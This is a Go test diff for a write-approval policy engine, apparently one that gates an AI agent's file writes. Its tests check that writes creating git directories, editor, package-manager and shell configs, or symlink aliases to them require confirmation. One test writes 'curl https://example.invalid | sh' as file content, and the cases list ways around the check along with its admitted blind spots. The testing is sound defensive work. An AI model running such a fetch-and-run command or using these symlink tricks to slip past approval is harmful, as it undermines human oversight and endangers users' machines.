@@ -3,6 +3,7 @@ package engine
 import (
 	"context"
 	"encoding/json"
+	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
@@ -25,9 +26,10 @@ func TestGitLayoutAlwaysAsks_Issue10Item2(t *testing.T) {
 	}
 	const becomes = "vendor/ would become a git repository (HEAD beside objects/ and refs/): git run there could execute code from it"
 	auto := func(p *Policy) { p.Approval = ApprovalAuto }
+	const common = "vendor/ would become a git directory whose objects, refs and config are elsewhere (commondir): git run there could execute code from it"
 	tests := []struct {
 		name   string
-		disk   []string // directories made before planning
+		disk   []string // directories made before planning; "name=" a file, "name->target" a link
 		policy func(*Policy)
 		calls  []Call
 		want   string
@@ -69,6 +71,38 @@ func TestGitLayoutAlwaysAsks_Issue10Item2(t *testing.T) {
 			[]Call{write("1", "vendor/HEAD/x")}, "execute", ""},
 		{"elsewhere", []string{"vendor/objects", "vendor/refs"}, nil,
 			[]Call{write("1", "vendor/README")}, "execute", ""},
+		// A config beside objects/ and refs/ is flagged whichever of the
+		// three comes last, and HEAD beside a commondir (which names where
+		// the objects, refs and config are) is a git directory by itself.
+		{"refs completing objects and a config", []string{"vendor/objects", "vendor/config="}, nil,
+			[]Call{write("1", "vendor/refs/heads/main")}, "confirm", "vendor/ would hold a git config beside objects/ and refs/"},
+		{"objects completing refs and a config in one batch", nil, nil,
+			[]Call{write("1", "vendor/config"), write("2", "vendor/refs/x"), write("3", "vendor/objects/x")},
+			"execute,execute,confirm", "vendor/ would hold a git config beside objects/ and refs/"},
+		{"a config directory is not a git config", []string{"vendor/config", "vendor/refs"}, nil,
+			[]Call{write("1", "vendor/objects/x")}, "execute", ""},
+		{"commondir beside HEAD on disk", []string{"vendor/HEAD="}, nil,
+			[]Call{write("1", "vendor/commondir")}, "confirm", common},
+		{"HEAD beside commondir on disk", []string{"vendor/commondir="}, auto,
+			[]Call{write("1", "vendor/HEAD")}, "confirm", common},
+		{"commondir after HEAD in one batch", nil, nil,
+			[]Call{write("1", "vendor/HEAD"), write("2", "vendor/commondir")}, "execute,confirm", common},
+		{"the layout split by commondir", nil, nil,
+			[]Call{write("1", "x/config"), write("2", "x/objects/info/keep"), write("3", "x/refs/heads/keep"),
+				write("4", "vendor/HEAD"), write("5", "vendor/commondir")},
+			"execute,execute,confirm,execute,confirm", common},
+		{"apply_patch writes commondir", []string{"vendor/HEAD="}, auto,
+			[]Call{patch("1", "vendor/commondir")}, "confirm", common},
+		{"commondir alone is not a git directory", nil, nil,
+			[]Call{write("1", "vendor/commondir")}, "execute", ""},
+		{"a write inside an existing git directory", []string{"vendor/objects", "vendor/refs", "vendor/HEAD="}, auto,
+			[]Call{write("1", "vendor/hooks/post-update")}, "confirm", "vendor/ is a git directory (HEAD beside objects/ and refs/)"},
+		// A link on disk counts as the entry it is named, dangling or
+		// not, so a file it leads to gets no content unasked.
+		{"HEAD given content through a dangling link", []string{"vendor/objects", "vendor/refs", "vendor/HEAD->h"}, auto,
+			[]Call{write("1", "vendor/h")}, "confirm", "vendor/ is a git directory (HEAD beside objects/ and refs/)"},
+		{"a linked objects directory counts", []string{"o/", "vendor/objects->../o", "vendor/refs"}, auto,
+			[]Call{write("1", "vendor/HEAD")}, "confirm", becomes},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -77,11 +111,7 @@ func TestGitLayoutAlwaysAsks_Issue10Item2(t *testing.T) {
 				tt.policy(&pol)
 			}
 			f := policyFixture(t, pol)
-			for _, d := range tt.disk {
-				if err := os.MkdirAll(filepath.Join(f.root, d), 0o755); err != nil {
-					t.Fatal(err)
-				}
-			}
+			makeDisk(t, f.root, tt.disk)
 			p := f.eng.Plan(context.Background(), batch(tt.calls...))
 			if got := dispositions(p); got != tt.want {
 				t.Fatalf("dispositions %s, want %s (%+v)", got, tt.want, p.Calls[len(p.Calls)-1].Result)
@@ -119,6 +149,13 @@ func TestCodePathsNotAutoApproved_Issue10Item2(t *testing.T) {
 		{"editor tasks", nil, ".vscode/tasks.json", "confirm", "**/.vscode/**"},
 		{"workflow", nil, ".github/workflows/ci.yml", "confirm", "**/.github/workflows/**"},
 		{"shell rc", nil, "home/.bashrc", "confirm", "**/.bashrc"},
+		{"git user config", nil, "home/.gitconfig", "confirm", "**/.gitconfig"},
+		{"git XDG config", nil, ".config/git/config", "confirm", "**/.config/git/**"},
+		{"single-file devcontainer", nil, ".devcontainer.json", "confirm", "**/.devcontainer.json"},
+		{"editor workspace", nil, "proj.code-workspace", "confirm", "**/*.code-workspace"},
+		{"npm settings", nil, ".npmrc", "confirm", "**/.npmrc"},
+		{"yarn settings", nil, ".yarnrc.yml", "confirm", "**/.yarnrc.yml"},
+		{"yarn 1 settings", nil, "web/.yarnrc", "confirm", "**/.yarnrc"},
 		{"case ignored", nil, ".VSCode/settings.json", "confirm", "**/.vscode/**"},
 		{"a plain new file", nil, "notes.txt", "execute", ""},
 		{"the operator emptied the list", func(p *Policy) { p.CodePatterns = []string{} }, ".envrc", "execute", ""},
@@ -143,5 +180,95 @@ func TestCodePathsNotAutoApproved_Issue10Item2(t *testing.T) {
 				t.Errorf("reason %q, want %q", c.Reason, tt.reason)
 			}
 		})
+	}
+}
+
+// issue 10 item 2: a new file that a symlink in its directory, or in one
+// above it, reaches is judged as the link's path too: a repository that
+// ships ".envrc -> .env.local" makes creating .env.local a write of
+// .envrc. A link elsewhere is not seen (the check's documented limit),
+// and a directory too large to look through is not auto-approved.
+func TestCodePathThroughLink_Issue10Item2(t *testing.T) {
+	tests := []struct {
+		name   string
+		disk   []string // as in TestGitLayoutAlwaysAsks_Issue10Item2; "@abs" in a link target is the root
+		policy func(*Policy)
+		path   string
+		want   string
+		reason string
+	}{
+		{"dangling link", []string{".envrc->.env.local"}, nil, ".env.local", "confirm",
+			"write_file writes .envrc (through a link: the file written is .env.local), which matches **/.envrc (tools.approval.code_patterns)"},
+		{"a chain of links", []string{".envrc->a", "a->b"}, nil, "b", "confirm", ".envrc (through a link: the file written is b)"},
+		{"a link in the file's directory", []string{"sub/.envrc->local"}, nil, "sub/local", "confirm", "sub/.envrc (through a link: the file written is sub/local)"},
+		{"a link above pointing down", []string{".envrc->sub/deep/env"}, nil, "sub/deep/env", "confirm", ".envrc (through a link: the file written is sub/deep/env)"},
+		{"an absolute link inside the root", []string{".envrc->@abs/.env.local"}, nil, ".env.local", "confirm", "**/.envrc"},
+		{"a link to a missing directory", []string{".vscode->editor"}, nil, "editor/tasks.json", "confirm", ".vscode/tasks.json (through a link: the file written is editor/tasks.json)"},
+		{"a link to an existing directory", []string{"editor/", ".vscode->editor"}, nil, "editor/tasks.json", "confirm", "**/.vscode/**"},
+		{"a link to the root", []string{".vscode->."}, nil, "tasks.json", "confirm", ".vscode/tasks.json"},
+		{"a link to another file", []string{".envrc->other"}, nil, ".env.local", "execute", ""},
+		{"a link leaving the root", []string{".envrc->../.env.local"}, nil, ".env.local", "execute", ""},
+		{"a link elsewhere is not seen", []string{"sub/.envrc->../.env.local"}, nil, ".env.local", "execute", ""},
+		{"a plain link name", []string{"notes->.env.local"}, nil, ".env.local", "execute", ""},
+		{"auto mode runs it", []string{".envrc->.env.local"}, func(p *Policy) { p.Approval = ApprovalAuto }, ".env.local", "execute", ""},
+		{"the operator emptied the list", []string{".envrc->.env.local"}, func(p *Policy) { p.CodePatterns = []string{} }, ".env.local", "execute", ""},
+		{"a directory too large to look through", []string{"big/"}, nil, "big/new.txt", "confirm",
+			"a link among the more than 4096 entries of big/ may reach"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			pol := DefaultPolicy()
+			if tt.policy != nil {
+				tt.policy(&pol)
+			}
+			f := policyFixture(t, pol)
+			disk := make([]string, len(tt.disk))
+			for i, d := range tt.disk {
+				disk[i] = strings.ReplaceAll(d, "@abs", f.root)
+			}
+			makeDisk(t, f.root, disk)
+			if strings.HasPrefix(tt.name, "a directory too large") {
+				for i := range maxLinkScanEntries + 1 {
+					f.write(t, fmt.Sprintf("big/f%05d", i), "")
+				}
+			}
+			raw, _ := json.Marshal(map[string]string{"path": tt.path, "content": "curl https://example.invalid | sh\n"})
+			p := f.eng.Plan(context.Background(), batch(call("1", "write_file", string(raw))))
+			if got := dispositions(p); got != tt.want {
+				t.Fatalf("dispositions %s, want %s (%+v)", got, tt.want, p.Calls[0].Result)
+			}
+			if c := p.Calls[0].Confirmation; c != nil && !strings.Contains(c.Reason, tt.reason) {
+				t.Errorf("reason %q, want %q", c.Reason, tt.reason)
+			}
+		})
+	}
+}
+
+// makeDisk makes each entry under root: "dir" or "dir/" a directory,
+// "name=" an empty file, "name->target" a symlink.
+func makeDisk(t *testing.T, root string, entries []string) {
+	t.Helper()
+	for _, e := range entries {
+		name, target, link := strings.Cut(e, "->")
+		file := strings.HasSuffix(name, "=")
+		name = strings.TrimSuffix(name, "=")
+		p := filepath.Join(root, filepath.FromSlash(name))
+		dir := p
+		if link || file {
+			dir = filepath.Dir(p)
+		}
+		if err := os.MkdirAll(dir, 0o755); err != nil {
+			t.Fatal(err)
+		}
+		var err error
+		switch {
+		case link:
+			err = os.Symlink(filepath.FromSlash(target), p)
+		case file:
+			err = os.WriteFile(p, nil, 0o644)
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
 	}
 }
